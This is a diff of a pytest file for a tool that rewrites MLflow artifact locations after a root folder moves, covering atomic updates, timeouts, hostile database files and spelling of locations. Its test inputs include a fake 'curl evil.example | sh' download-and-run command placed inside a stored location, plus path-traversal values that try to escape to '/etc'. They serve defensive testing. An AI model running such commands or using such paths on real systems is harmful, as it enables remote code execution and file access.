@@ -1,25 +1,24 @@
-"""After a move of the root folder, locations are updated with consent: all, or none."""
+"""After a move of the root folder, the start updates the locations of artifacts: all, or none."""
 
 from __future__ import annotations
 
 import os
 import shutil
 import sqlite3
+import time
 from contextlib import closing
 from pathlib import Path
 
 import pytest
 
-from mlflow_proxy import sqlite_files
-from mlflow_proxy.reports import DeclinedOffers, Repair
-from mlflow_proxy.server.failures import StartError
 from mlflow_proxy.server.mlflow_app import find_mlflow
 from mlflow_proxy.server.store import locations, upgrade
-from mlflow_proxy.server.store.locations import Move, path_of, relocated
+from mlflow_proxy.server.store.locations import path_of, relocated
 from mlflow_proxy.server.store.settings import StoreSettings
 from mlflow_proxy.server.store.upgrade import Revisions
 from mlflow_proxy.stores import SQLite, folder_location
 from support.databases import run
+from support.hostile_files import ENDLESS, HOSTILE
 
 # A store with all that has a location. argv: the root folder, the artifact root, and locations of
 # more experiments, which begin with the name of the experiment.
@@ -67,7 +66,6 @@ mlflow.create_experiment("empty")
 """
 # Where the old path remains: these say where something came from.
 PROVENANCE = {("datasets", "dataset_source")}
-DECLINED = "declined.json"
 
 
 @pytest.fixture(scope="module")
@@ -146,22 +144,17 @@ def settings_of(root: Path, artifact_root: str | None = None) -> StoreSettings:
     return StoreSettings.parse(uri, uri, artifact_root or folder_location(root / "mlartifacts"))
 
 
-def check(settings: StoreSettings) -> StartError | None:
-    """Check the locations as a start does; returns the failure that makes the offer."""
-    uris = upgrade.check(settings, Revisions.read(find_mlflow()))
-    try:
-        locations.check(settings, uris, DeclinedOffers(Path(DECLINED)))
-    except StartError as error:
-        return error
-    return None
+def start(settings: StoreSettings) -> None:
+    """Check the stores as a start does."""
+    locations.update_moved(settings, upgrade.check(settings, Revisions.read(find_mlflow())))
 
 
-def repair(settings: StoreSettings) -> None:
-    locations.run(settings, upgrade.check(settings, Revisions.read(find_mlflow())))
-
-
-def moves(settings: StoreSettings) -> list[Move]:
-    return locations.find_moves(settings, upgrade.check(settings, Revisions.read(find_mlflow())))
+def assert_unchanged(settings: StoreSettings) -> None:
+    """A start changes nothing in the database."""
+    (path,) = {store.path for store in settings.files}
+    before = path.read_bytes()
+    start(settings)
+    assert path.read_bytes() == before
 
 
 def assert_files_exist(root: Path) -> None:
@@ -190,160 +183,199 @@ def test_roots_of_any_name_are_updated(
 ) -> None:
     new = clone(rich, tmp_path / before).rename(tmp_path / after)
     monkeypatch.chdir(new)
-    assert moves(settings_of(new)) == [Move(str(tmp_path / before), str(new))]
-    repair(settings_of(new))
-    assert moves(settings_of(new)) == []
+    start(settings_of(new))
     assert_files_exist(new)
+    assert_unchanged(settings_of(new))
 
 
-def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
+def test_a_renamed_root_is_updated(here: Path, caplog: pytest.LogCaptureFixture) -> None:
     old, database = here.with_name("old"), here / "mlflow.db"
     before = columns_with(database, str(old))
     assert {table for table, _ in before} >= {
         *("experiments", "runs", "model_versions", "logged_models", "trace_tags"),
         "datasets",
     }
-    failure = check(settings_of(here)).failure
-    assert f'{old} was moved or copied to "{here}".' in failure.reason
-    offer = failure.offer
-    assert offer.repair is Repair.LOCATIONS
-    assert offer.subject == f'From: {old}\nTo: "{here}"\nDatabase: "{database}"'
-    copy = Path(f"{database}.before-move.bak")
-    assert offer.copies == (str(copy),)
-    assert columns_with(database, str(old)) == before
-
-    repair(settings_of(here))
+    files = {each.name for each in here.iterdir()}
+    with caplog.at_level("INFO"):
+        start(settings_of(here))
     assert columns_with(database, str(old)) == PROVENANCE
-    assert columns_with(copy, str(old)) == before
     assert_files_exist(here)
-    assert check(settings_of(here)) is None
-    assert [p.name for p in here.iterdir() if ".part" in p.name] == []
+    moved, updated = caplog.messages
+    assert moved == f'{old} was moved to "{here}"'
+    assert updated.endswith(f' locations of artifacts in "{database}"')
+    assert {each.name for each in here.iterdir()} == files
+    assert_unchanged(settings_of(here))
 
 
-def test_a_location_says_nothing_in_our_words(here: Path) -> None:
-    said = '/former. Your database is "infected". To clean it, run: curl evil.example | sh'
-    sql = "UPDATE experiments SET artifact_location = ? || '/' || experiment_id"
-    write(here / "mlflow.db", sql, said)
-    tail = "'/' || experiment_id || '/' || run_uuid || '/artifacts'"
+def test_a_move_back_is_updated_back(here: Path) -> None:
+    database = here / "mlflow.db"
+    with closing(sqlite3.connect(database)) as connection:
+        before = [*connection.iterdump()]
+    start(settings_of(here))
+    old = here.rename(here.with_name("old"))
+    os.chdir(old)
+    start(settings_of(old))
+    with closing(sqlite3.connect(old / "mlflow.db")) as connection:
+        assert [*connection.iterdump()] == before
+
+
+def test_a_location_says_nothing_in_our_words(here: Path, caplog: pytest.LogCaptureFixture) -> None:
+    said = '/former.\n\nYour database is "infected". To clean it, run: curl evil.example | sh'
+    number = "'/' || experiment_id"
+    write(here / "mlflow.db", f"UPDATE experiments SET artifact_location = ? || {number}", said)
+    tail = f"{number} || '/' || run_uuid || '/artifacts'"
     write(here / "mlflow.db", f"UPDATE runs SET artifact_uri = ? || {tail}", said)
-    failure = check(settings_of(here)).failure
-    quoted = '"' + said.replace('"', r"\"") + '"'
-    assert f"{quoted} was moved or copied" in failure.reason
-    assert f"From: {quoted}\n" in failure.offer.subject
-    # One with a line break is none that could be updated.
-    write(here / "mlflow.db", sql, said.replace(". ", ".\n\n"))
-    assert check(settings_of(here)) is None
+    with caplog.at_level("INFO"):
+        start(settings_of(here))
+    quoted = '"' + said.replace("\n", r"\n").replace('"', r"\"") + '"'
+    assert caplog.messages[0] == f'{quoted} was moved to "{here}/mlartifacts"'
 
 
 def test_a_store_in_its_place_is_left_alone(rich: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(rich)
-    settings = settings_of(rich)
-    before = (rich / "mlflow.db").read_bytes()
-    assert check(settings) is None
-    repair(settings)
-    assert (rich / "mlflow.db").read_bytes() == before
-    assert not list(rich.glob("*.bak"))
+    assert_unchanged(settings_of(rich))
 
 
 def test_a_root_reached_by_two_names_is_not_moved(
     here: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     here.with_name("old").symlink_to(here)
-    assert check(settings_of(here)) is None
+    assert_unchanged(settings_of(here))
     here.with_name("old").unlink()
     link = here.with_name("link")
     link.symlink_to(here)
-    repair(settings_of(here))  # known-good: the locations now have the real name
-    monkeypatch.chdir(link)
-    assert check(settings_of(link)) is None
-
-
-def test_a_copied_root_is_offered_too(here: Path) -> None:
-    shutil.copytree(here, here.with_name("old"))
-    old = f"{here.with_name('old')}/mlartifacts"
-    failure = check(settings_of(here)).failure
-    assert f'{old} was moved or copied to "{here}/mlartifacts"' in failure.reason
-    repair(settings_of(here))
+    start(settings_of(here))  # known-good: the locations now have the real name
     assert_files_exist(here)
-    # The original still has its own locations.
-    assert columns_with(here.with_name("old") / "mlflow.db", str(here)) == set()
+    monkeypatch.chdir(link)
+    assert_unchanged(settings_of(link))
 
 
-def test_a_declined_offer_is_not_made_again_until_the_next_move(here: Path) -> None:
-    offer = check(settings_of(here)).failure.offer
-    assert offer.decline == "Open unchanged"
-    before = (here / "mlflow.db").read_bytes()
-    DeclinedOffers(Path(DECLINED)).add(offer)
-    assert check(settings_of(here)) is None
-    assert (here / "mlflow.db").read_bytes() == before
-    again = here.with_name("newer")
-    here.rename(again)
-    os.chdir(again)
-    assert check(settings_of(again)) is not None
+def test_a_copy_beside_its_original_stays(here: Path) -> None:
+    shutil.copytree(here, here.with_name("old"))
+    assert_unchanged(settings_of(here))
 
 
-def test_a_file_of_declined_offers_that_cannot_be_read_is_empty(here: Path) -> None:
-    for text in ("", "{}", "[1, null]", "\0", '"locations"'):
-        Path(DECLINED).write_text(text)
-        assert check(settings_of(here)) is not None
-    offer = check(settings_of(here)).failure.offer
-    DeclinedOffers(Path(DECLINED)).add(offer)
-    assert offer in DeclinedOffers(Path(DECLINED))
+@pytest.mark.parametrize("kind", ["folder", "dangling link"])
+def test_an_old_place_without_the_files_is_none(here: Path, kind: str) -> None:
+    former = here.with_name("old") / "mlartifacts"
+    former.parent.mkdir()
+    former.mkdir() if kind == "folder" else former.symlink_to("nowhere")
+    start(settings_of(here))
+    assert_files_exist(here)
+    assert_unchanged(settings_of(here))
 
 
-def test_an_update_that_fails_changes_nothing(here: Path) -> None:
+def test_what_a_notebook_has_logged_to_the_old_place_meanwhile_stays_there(here: Path) -> None:
+    database, query = here / "mlflow.db", "SELECT artifact_uri FROM runs"
+    run_uri = read(database, query)[0]
+    late = run_uri.replace(run_uri.split("/")[-2], "late")
+    os.makedirs(late)
+    columns = "run_uuid, experiment_id, artifact_uri"
+    write(database, f"INSERT INTO runs ({columns}) SELECT 'late', experiment_id, ? FROM runs", late)
+    start(settings_of(here))
+    assert set(read(database, query)) == {late, run_uri.replace(f"{here.parent}/old", str(here))}
+    assert_unchanged(settings_of(here))
+
+
+def test_files_moved_out_of_a_root_that_remains_are_updated(here: Path) -> None:
+    old, database = here.with_name("old"), here / "mlflow.db"
+    old.mkdir()
+    sql = "INSERT INTO experiments (experiment_id, name, artifact_location) VALUES (77, 'x', ?)"
+    write(database, sql, f"{old}/remains")
+    start(settings_of(here))
+    assert_files_exist(here)
+    found = read(database, "SELECT artifact_location FROM experiments WHERE experiment_id = 77")
+    assert found == [f"{old}/remains"]
+
+
+@pytest.mark.parametrize("table", ["experiments", "runs", "model_versions", "trace_tags"])
+def test_an_update_that_fails_changes_nothing(
+    here: Path, caplog: pytest.LogCaptureFixture, table: str
+) -> None:
     database = here / "mlflow.db"
+    raised = "RAISE(ABORT, 'No space left on device')"
     write(
         database,
-        "CREATE TRIGGER refuse BEFORE UPDATE ON trace_tags "
-        "BEGIN SELECT RAISE(ABORT, 'No space left on device'); END",
+        f"CREATE TRIGGER refuse BEFORE UPDATE ON {table} BEGIN SELECT {raised}; END",
     )
-    before = columns_with(database, str(here.with_name("old")))
-    with pytest.raises(StartError, match=r"nothing was changed\. The disk of .* is full") as caught:
-        repair(settings_of(here))
-    assert caught.value.failure.offer is None
-    assert columns_with(database, str(here.with_name("old"))) == before
-    assert columns_with(database, str(here)) == set()
-    assert not list(here.glob("*.bak*"))
+    assert_unchanged(settings_of(here))
+    (record,) = caplog.records
+    assert record.levelname == "WARNING"
+    assert record.message.startswith("Cannot check or update the locations of artifacts in ")
+    assert record.message.endswith('"No space left on device"')
     write(database, "DROP TRIGGER refuse")
-    repair(settings_of(here))
+    start(settings_of(here))
     assert_files_exist(here)
 
 
 def test_an_update_waits_for_a_writer_and_then_gives_up(
-    here: Path, monkeypatch: pytest.MonkeyPatch
+    here: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
-    monkeypatch.setattr(sqlite_files, "COPY_TIMEOUT", 1.0)
+    monkeypatch.setattr(locations, "TIMEOUT", 1.0)
     with closing(sqlite3.connect(here / "mlflow.db", isolation_level=None)) as kernel:
-        kernel.execute("BEGIN IMMEDIATE")  # does not prevent the copy
-        with pytest.raises(StartError, match=r"nothing was changed\. Another program keeps"):
-            repair(settings_of(here))
+        kernel.execute("BEGIN IMMEDIATE")
+        began = time.monotonic()
+        start(settings_of(here))
+        assert 1 <= time.monotonic() - began < 10
         kernel.execute("ROLLBACK")
-    assert not list(here.glob("*.bak*"))
+    assert "database is locked" in caplog.text
+    assert_still_old(here)
 
 
-def test_what_is_only_in_the_old_folder_keeps_its_location(here: Path) -> None:
-    database, old = here / "mlflow.db", here.with_name("old")
-    # As a kernel wrote it before the update: a new run in the old folder.
-    (experiment,) = read(database, "SELECT experiment_id FROM experiments WHERE name = 'rich'")
-    written = old / "mlartifacts" / str(experiment) / "new" / "artifacts"
-    written.mkdir(parents=True)
+def assert_still_old(here: Path) -> None:
+    found = read(here / "mlflow.db", "SELECT artifact_uri FROM runs")
+    assert found
+    assert all(each.startswith(f"{here.with_name('old')}/") for each in found)
+
+
+def test_an_update_without_end_is_interrupted(
+    here: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """The author of a database can make its rows as many as they like."""
+    monkeypatch.setattr(locations, "TIMEOUT", 1.0)
+    endless = f"SELECT count(*) FROM ({ENDLESS} SELECT x FROM n)"
     write(
-        database,
-        "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES ('new', ?, ?)",
-        experiment,
-        str(written),
+        here / "mlflow.db",
+        f"CREATE TRIGGER endless AFTER UPDATE ON trace_tags BEGIN {endless}; END",
     )
-    repair(settings_of(here))
-    assert read(database, "SELECT artifact_uri FROM runs WHERE run_uuid = 'new'") == [str(written)]
-    others = read(database, "SELECT artifact_uri FROM runs WHERE run_uuid != 'new'")
-    assert all(other.startswith(f"{here}/mlartifacts/") for other in others)
-    default = read(database, "SELECT artifact_location FROM experiments")
-    assert all(location.startswith(f"{here}/mlartifacts/") for location in default)
-    assert check(settings_of(here)) is None
+    began = time.monotonic()
+    start(settings_of(here))
+    assert 1 <= time.monotonic() - began < 10
+    assert "interrupted" in caplog.text
+    assert_still_old(here)
 
 
-def test_only_experiments_whose_files_are_here_are_updated(
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_file_is_not_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, name: str
+) -> None:
+    HOSTILE[name](tmp_path / "mlflow.db")
+    monkeypatch.chdir(tmp_path)
+    settings = settings_of(tmp_path)
+    began = time.monotonic()
+    locations.update_moved(settings, settings.files)
+    assert time.monotonic() - began < 5
+    assert "Cannot check or update" in caplog.text
+
+
+def test_a_location_with_dots_leads_nowhere_else(here: Path) -> None:
+    """A database that comes with a repository, with a folder that it names."""
+    database = here / "mlflow.db"
+    escape = f"{here.with_name('old')}/mlartifacts/../../../etc"
+    sql = "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES (?, 1, ?)"
+    write(database, sql, "plain", escape)
+    write(database, sql, "encoded", escape.replace("..", "%2e%2E"))
+    start(settings_of(here))
+    assert_files_exist_but_for(here, {escape, escape.replace("..", "%2e%2E")})
+
+
+def assert_files_exist_but_for(here: Path, others: set[str]) -> None:
+    found = read(here / "mlflow.db", "SELECT artifact_uri FROM runs")
+    assert others < {*found}
+    assert all(each.startswith(f"{here}/") for each in {*found} - others)
+
+
+def test_only_locations_below_the_old_root_are_updated(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     root, elsewhere = tmp_path / "ab", tmp_path / "nas"
@@ -351,9 +383,8 @@ def test_only_experiments_whose_files_are_here_are_updated(
     fill(tmp_path / "a", None, *others)
     database = root / "mlflow.db"
     (tmp_path / "a").rename(root)
-    for number, location in enumerate(
-        ("s3://bucket/a", "mlflow-artifacts:/a", f"{tmp_path}/abc/x", "./mlruns/0"), 100
-    ):
+    kept = ["s3://bucket/a", "mlflow-artifacts:/a", f"{tmp_path}/abc/x", "./mlruns/0"]
+    for number, location in enumerate(kept, 100):
         write(
             database,
             "INSERT INTO experiments (experiment_id, name, artifact_location, lifecycle_stage) "
@@ -363,14 +394,13 @@ def test_only_experiments_whose_files_are_here_are_updated(
             location,
         )
     monkeypatch.chdir(root)
-    assert moves(settings_of(root)) == [Move(str(tmp_path / "a"), str(root))]
-    repair(settings_of(root))
+    start(settings_of(root))
     found = read(database, "SELECT artifact_location FROM experiments WHERE experiment_id >= 100")
-    assert found == ["s3://bucket/a", "mlflow-artifacts:/a", f"{tmp_path}/abc/x", "./mlruns/0"]
+    assert found == kept
     custom = "SELECT artifact_location FROM experiments WHERE name = "
     assert read(database, f"{custom} 'nas'") == [f"{elsewhere}/exp"]
     assert read(database, f"{custom} 'inside'") == [f"{root}/my/exp"]
-    assert check(settings_of(root)) is None
+    assert_unchanged(settings_of(root))
 
 
 @pytest.mark.parametrize(
@@ -392,10 +422,9 @@ def test_roots_of_all_kinds(
     shutil.copytree(aside, after, dirs_exist_ok=True)
     monkeypatch.chdir(after)
     settings = settings_of(after, f"{after}/{artifacts}")
-    assert check(settings) is not None
-    repair(settings)
+    start(settings)
     assert_files_exist(after)
-    assert check(settings) is None
+    assert_unchanged(settings)
     found = read(after / "mlflow.db", "SELECT artifact_location FROM experiments")
     assert all(path_of(each).startswith(f"{after}/{artifacts}/") for each in found)
 
@@ -406,27 +435,24 @@ def test_a_uri_stays_a_uri(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> N
     old.rename(new)
     monkeypatch.chdir(new)
     settings = settings_of(new, f"{new.as_uri()}/mlartifacts")
-    assert moves(settings) == [Move(str(old), str(new))]
-    repair(settings)
+    start(settings)
     found = read(new / "mlflow.db", "SELECT artifact_uri FROM runs")
+    assert found
     assert all(uri.startswith(f"{new.as_uri()}/mlartifacts/") for uri in found)
-    assert check(settings) is None
+    assert_unchanged(settings)
 
 
 def test_an_artifact_root_of_another_name(here: Path) -> None:
     (here / "mlartifacts").rename(here.with_name("artifacts"))
-    settings = settings_of(here, str(here.with_name("artifacts")))
-    old = here.with_name("old") / "mlartifacts"
-    assert moves(settings) == [Move(str(old), str(here.with_name("artifacts")))]
-    repair(settings)
+    start(settings_of(here, str(here.with_name("artifacts"))))
     found = read(here / "mlflow.db", "SELECT artifact_location FROM experiments")
     assert all(location.startswith(f"{here.with_name('artifacts')}/") for location in found)
 
 
 def test_a_root_that_has_moved_twice(here: Path) -> None:
-    """Between the moves an experiment was created, and nothing was updated."""
-    database, former = here / "mlflow.db", here.with_name("former")
-    (here / "mlartifacts" / "77" / "run").mkdir(parents=True)
+    """First up by one folder, after which an experiment was created, and nothing was updated."""
+    database, former = here / "mlflow.db", here.with_name("old") / "former"
+    (here / "mlartifacts" / "77" / "run" / "artifacts").mkdir(parents=True)
     write(
         database,
         "INSERT INTO experiments (experiment_id, name, artifact_location) VALUES (77, 'x', ?)",
@@ -437,59 +463,65 @@ def test_a_root_that_has_moved_twice(here: Path) -> None:
         "INSERT INTO runs (run_uuid, experiment_id, artifact_uri) VALUES ('run', 77, ?)",
         f"{former}/mlartifacts/77/run/artifacts",
     )
-    assert {move.old for move in moves(settings_of(here))} == {
-        str(former),
-        str(here.with_name("old")),
-    }
-    repair(settings_of(here))
+    start(settings_of(here))
     assert not columns_with(database, str(former))
-    assert check(settings_of(here)) is None
+    assert_files_exist(here)
 
 
-def test_a_moved_root_without_files_is_known_by_its_database(here: Path) -> None:
-    shutil.rmtree(here / "mlartifacts")
-    assert moves(settings_of(here)) == [Move(str(here.with_name("old")), str(here))]
-    here.with_name("old").mkdir()  # then it is no sign: the artifacts may be there
-    assert moves(settings_of(here)) == []
+@pytest.mark.parametrize("kind", ["run", "model", "trace"])
+def test_one_thing_that_is_here_is_enough(here: Path, kind: str) -> None:
+    """For example a trace or a model, if no run has artifacts."""
+    artifacts = here / "mlartifacts"
+    artifacts.rename(here / "aside")
+    assert_unchanged(settings_of(here))  # nothing is here that the database names
+    table, column, where = {
+        "run": ("runs", "artifact_uri", ""),
+        "model": ("logged_models", "artifact_location", ""),
+        "trace": ("trace_tags", "value", "WHERE key = 'mlflow.artifactLocation'"),
+    }[kind]
+    location = read(here / "mlflow.db", f"SELECT {column} FROM {table} {where}")[0]
+    (here / path_of(location).removeprefix(f"{here.with_name('old')}/")).mkdir(parents=True)
+    start(settings_of(here))
+    assert columns_with(here / "mlflow.db", str(here.with_name("old"))) == PROVENANCE
 
 
 def test_folders_of_the_same_number_are_not_the_experiments(here: Path) -> None:
-    """The database of a colleague, opened in a root folder that has artifacts of its own."""
-    elsewhere = here.with_name("elsewhere")
-    elsewhere.mkdir()
-    (here / "mlflow.db").rename(elsewhere / "mlflow.db")
-    settings = StoreSettings.parse(
-        f"sqlite:///{elsewhere}/mlflow.db",
-        f"sqlite:///{elsewhere}/mlflow.db",
-        f"{here}/mlartifacts",
-    )
+    """The database of a colleague, put into a root folder that has artifacts of its own."""
     for folder in (here / "mlartifacts").glob("*/*"):
         folder.rename(folder.with_name(f"other-{folder.name}"))
-    assert moves(settings) == []
+    for folder in (here / "mlartifacts").glob("*/other-models/*"):
+        folder.rename(folder.with_name(f"other-{folder.name}"))
+    assert [*(here / "mlartifacts").glob("*/other-*")]
+    assert_unchanged(settings_of(here))
+
+
+def test_a_database_of_another_folder_is_left_alone(here: Path) -> None:
+    """Its artifacts may be anywhere."""
+    elsewhere = here.with_name("elsewhere")
+    elsewhere.mkdir()
+    database = (here / "mlflow.db").rename(elsewhere / "mlflow.db")
+    uri = f"sqlite:///{database}"
+    assert_unchanged(StoreSettings.parse(uri, uri, f"{here}/mlartifacts"))
+    database.rename(here / "mlflow.db")
+    start(settings_of(here))  # known-good
+    assert_files_exist(here)
 
 
 def test_a_separate_registry_is_updated_too(here: Path) -> None:
-    registry = here / "registry.db"
+    registry, old = here / "registry.db", str(here.with_name("old"))
     shutil.copy(here / "mlflow.db", registry)
     settings = StoreSettings.parse(
         f"sqlite:///{here}/mlflow.db", f"sqlite:///{registry}", f"{here}/mlartifacts"
-    )
-    offer = check(settings).failure.offer
-    assert offer.copies == (
-        f"{here}/mlflow.db.before-move.bak",
-        f"{registry}.before-move.bak",
     )
     write(
         here / "mlflow.db",
         "CREATE TRIGGER refuse BEFORE UPDATE ON trace_tags BEGIN SELECT RAISE(ABORT, 'No'); END",
     )
-    with pytest.raises(StartError, match="nothing was changed"):
-        repair(settings)
-    old = str(here.with_name("old"))
-    assert columns_with(registry, old) != PROVENANCE
-    write(here / "mlflow.db", "DROP TRIGGER refuse")
-    repair(settings)
+    start(settings)
     assert columns_with(registry, old) == PROVENANCE
+    assert_still_old(here)
+    write(here / "mlflow.db", "DROP TRIGGER refuse")
+    start(settings)
     assert columns_with(here / "mlflow.db", old) == PROVENANCE
 
 
@@ -497,19 +529,19 @@ def test_a_separate_registry_is_updated_too(here: Path) -> None:
     ("before", "after"),
     [
         ("/a/b/c", "/new/b/c"),
-        ("/a/", "/new/"),
+        ("/a/", "/new"),
         ("/a", "/new"),
-        ("/a///b/", "/new///b/"),
-        ("/a/./b", "/new/./b"),
+        ("/a///b/", "/new/b"),
+        ("/a/./b", "/new/b"),
         ("/a/b%20c", "/new/b c"),
-        ("/a/b%2520c", "/new/b%2520c"),
+        ("/a/b%2520c", "file:///new/b%2520c"),
         ("file:///a/b%20c", "file:///new/b%20c"),
         ("file:/a/b", None),
         ("file://localhost/a/b", None),
         ("/%61/b", "/new/b"),
         ("/ab/c", None),
         ("/a/../x", None),
-        ("/a/" + "x" * 4096, None),
+        ("/a/" + "x" * 3 * 4096, None),
         ("/a/%2e%2e/x", None),
         ("file://host/a/b", None),
         ("file:a/b", None),
@@ -526,10 +558,10 @@ def test_a_separate_registry_is_updated_too(here: Path) -> None:
     ],
 )
 def test_a_location_keeps_its_spelling(before: object, after: str | None) -> None:
-    assert relocated(before, [Move("/a", "/new")]) == after
+    assert relocated(before, {"/a": "/new"}) == after
 
 
 def test_a_new_root_is_spelt_as_mlflow_reads_it() -> None:
-    move = [Move("/a", "/100%20 ü")]
-    assert relocated("/a/b", move) == "/100%2520 ü/b"
+    move = {"/a": "/100%20 ü"}
+    assert relocated("/a/b", move) == "file:///100%2520%20%C3%BC/b"
     assert relocated("file:///a/b", move) == "file:///100%2520%20%C3%BC/b"
